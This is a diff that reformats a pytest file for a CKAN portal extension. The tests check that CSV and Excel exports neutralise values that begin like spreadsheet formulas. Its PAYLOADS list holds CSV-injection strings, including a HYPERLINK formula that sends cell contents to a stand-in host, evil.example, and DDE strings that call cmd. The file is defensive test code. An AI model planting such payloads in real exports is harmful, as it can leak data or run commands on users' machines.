@@ -2,35 +2,48 @@
 formula by a spreadsheet. CSV cells that begin with = + - @ (or a tab or
 carriage return) get a leading apostrophe; Excel cells are typed text; the
 portal's own CSV export reads back to the same values."""
+
 import csv
 import io
 
+import builders
 import openpyxl
 import pytest
 from ckan.tests import helpers
-
-import builders
 from reads_portal import headers, publish, reads_portal  # noqa: F401 (fixture)
+
 from ckanext.simore.exports import formulas
 from ckanext.simore.imports import formats
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\uff1d1+1",
+]
 
 
 @pytest.fixture
 def injected(reads_portal):
     """Records whose texts begin like formulas, written by a coordinator
     and by a focal point (a published report)."""
-    mechanism = builders.mechanism("coordinacion", code="FORMULA",
-                                   title_translated={"es": PAYLOADS[3], "en": PAYLOADS[3]})
+    mechanism = builders.mechanism(
+        "coordinacion", code="FORMULA", title_translated={"es": PAYLOADS[3], "en": PAYLOADS[3]}
+    )
     institution = builders.institution(name="formula", title=PAYLOADS[1])
     recommendation = builders.recommendation(
-        "coordinacion", mechanism["name"], institutions=[institution["name"]],
+        "coordinacion",
+        mechanism["name"],
+        institutions=[institution["name"]],
         text_translated={"es": PAYLOADS[0], "en": PAYLOADS[1], "fr": PAYLOADS[5]},
-        document_symbol=PAYLOADS[2], paragraph=PAYLOADS[4].strip())
-    report = builders.action("salud", [recommendation["name"]], _user="focal-salud",
-                             title_translated={"es": PAYLOADS[0], "en": PAYLOADS[3]})
+        document_symbol=PAYLOADS[2],
+        paragraph=PAYLOADS[4].strip(),
+    )
+    report = builders.action(
+        "salud", [recommendation["name"]], _user="focal-salud", title_translated={"es": PAYLOADS[0], "en": PAYLOADS[3]}
+    )
     publish(report["id"])
     return recommendation
 
@@ -82,12 +95,21 @@ def test_statistics_chart_csv_labels_never_start_a_formula(app, injected, chart)
 
 
 def test_round_compliance_csv_never_starts_a_formula(app, injected):
-    round_ = helpers.call_action("simore_round_create", context={"user": "coordinadora"},
-                                 title="=1+1", due_date="2030-03-31", fq="mechanism:formula")
-    response = app.get("/dashboard/coordination/round/{}.csv".format(round_["id"]),
-                       headers={"Authorization": helpers.call_action(
-                           "api_token_create", context={"user": "coordinadora"},
-                           user="coordinadora", name="t")["token"]})
+    round_ = helpers.call_action(
+        "simore_round_create",
+        context={"user": "coordinadora"},
+        title="=1+1",
+        due_date="2030-03-31",
+        fq="mechanism:formula",
+    )
+    response = app.get(
+        "/dashboard/coordination/round/{}.csv".format(round_["id"]),
+        headers={
+            "Authorization": helpers.call_action(
+                "api_token_create", context={"user": "coordinadora"}, user="coordinadora", name="t"
+            )["token"]
+        },
+    )
     cells = _cells(csv.reader(io.StringIO(response.data.decode("utf-8"))))
     _assert_no_formula_cell(cells)
     assert "'" + PAYLOADS[1] in cells
@@ -99,8 +121,11 @@ def test_the_portal_reads_its_own_csv_export_back_unchanged(value):
 
 
 def test_an_exported_csv_row_imports_with_its_original_text():
-    exported = {"name": "rec-1", "text_es": formulas.neutralised(PAYLOADS[0]),
-                "document_symbol": formulas.neutralised(PAYLOADS[2])}
+    exported = {
+        "name": "rec-1",
+        "text_es": formulas.neutralised(PAYLOADS[0]),
+        "document_symbol": formulas.neutralised(PAYLOADS[2]),
+    }
     parse = formats.parser(formats.SIMORE, {}, ["es", "en", "fr"])
     record = parse((2, exported))
     assert record.texts == {"es": PAYLOADS[0]}
